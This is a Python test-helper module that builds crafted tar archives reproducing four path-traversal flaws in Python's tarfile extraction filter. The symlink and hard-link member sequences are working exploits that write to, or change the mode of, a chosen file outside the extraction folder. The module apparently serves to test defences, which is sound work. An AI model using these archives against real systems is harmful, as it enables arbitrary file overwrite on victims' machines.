"""Archives as an attacker makes them, and a place in which all that one of them does can be seen."""

import gzip
import io
import os
import tarfile
from collections.abc import Callable, Iterable
from pathlib import Path

Facts = dict[str, tuple[int, int, int, bytes]]
"""Mode, links, time of change and content of everything below a directory, by its path."""


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", size: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, linkname, size
    return info


def crafted(path: Path, members: Iterable[tarfile.TarInfo], *, style: int = tarfile.GNU_FORMAT) -> Path:
    """Write `members`, whose data are zeros, as they are."""
    with tarfile.open(path, "w:gz", format=style, compresslevel=1) as tar:
        for each in members:
            tar.addfile(each, io.BytesIO(b"evil" * (each.size // 4)))
    return path


def raw(path: Path, blocks: Iterable[bytes]) -> Path:
    """Write a tar of `blocks`, headers and data as they are."""
    with gzip.open(path, "wb", compresslevel=1) as out:
        for block in blocks:
            out.write(block)
    return path


def header(info: tarfile.TarInfo) -> bytes:
    return info.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")


def facts(folder: Path) -> Facts:
    found = {}
    for parent, folders, files in os.walk(folder):
        for name in (".", *folders, *files):
            path = Path(parent) / name
            info = path.lstat()
            content = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
            found[str(path.relative_to(folder))] = (info.st_mode, info.st_nlink, info.st_mtime_ns, content)
    return found


def beyond_path_max(victim: Path) -> list[tarfile.TarInfo]:
    """CVE-2025-4517: links behind links become longer than a path may be, and `realpath` stops following them.

    Unpacked by an unmended Python with the `data` filter, it writes to the file `victim`, wherever that is.
    """
    long, steps, inside, members = "d" * 247, "abcdefghijklmnop", "", []
    for step in steps:
        members += [
            member(os.path.join(inside, long), tarfile.DIRTYPE),  # noqa: PTH118  names of a tar
            member(os.path.join(inside, step), tarfile.SYMTYPE, long),  # noqa: PTH118
        ]
        inside = os.path.join(inside, long)  # noqa: PTH118
    link = "/".join(steps) + "/" + "l" * 254
    return [
        *members,
        member(link, tarfile.SYMTYPE, "../" * len(steps)),
        member("escape", tarfile.SYMTYPE, link + "/.." * 15),
        member("hard", tarfile.LNKTYPE, f"escape{victim}"),
        member("hard", size=4),
    ]


def link_to_a_link(victim: Path) -> list[tarfile.TarInfo]:
    """CVE-2025-4330: the target of a link is checked as it is written, and what it leads through is made later."""
    return [
        member("a/b", tarfile.DIRTYPE),
        member("a/b/up", tarfile.SYMTYPE, "../.."),
        member("flat", tarfile.SYMTYPE, "a/b/up/.."),
        member(f"flat/../{victim.parent.name}/{victim.name}", size=4),
    ]


def hard_link_to_a_link(victim: Path) -> list[tarfile.TarInfo]:
    """CVE-2025-4138: a hard link to a symbolic link is that link at another depth."""
    return [
        member("deep/deeper", tarfile.DIRTYPE),
        member("deep/deeper/up", tarfile.SYMTYPE, "../../inside"),
        member("inside", tarfile.DIRTYPE),
        member("shallow", tarfile.LNKTYPE, "deep/deeper/up"),
        member(f"shallow/../{victim.parent.name}/{victim.name}", size=4),
    ]


def mode_of_a_link(victim: Path) -> list[tarfile.TarInfo]:
    """CVE-2024-12718: a directory member changes mode and time of what a link in its place leads to."""
    directory = member("x", tarfile.DIRTYPE)
    directory.mode, directory.mtime = 0o777, 1
    return [member("x", tarfile.SYMTYPE, f"../{victim.parent.name}"), directory]


# Each in the manner of what it is named after.
ATTACKS: dict[str, Callable[[Path], list[tarfile.TarInfo]]] = {
    "CVE-2025-4517": beyond_path_max,
    "CVE-2025-4330": link_to_a_link,
    "CVE-2025-4138": hard_link_to_a_link,
    "CVE-2024-12718": mode_of_a_link,
}
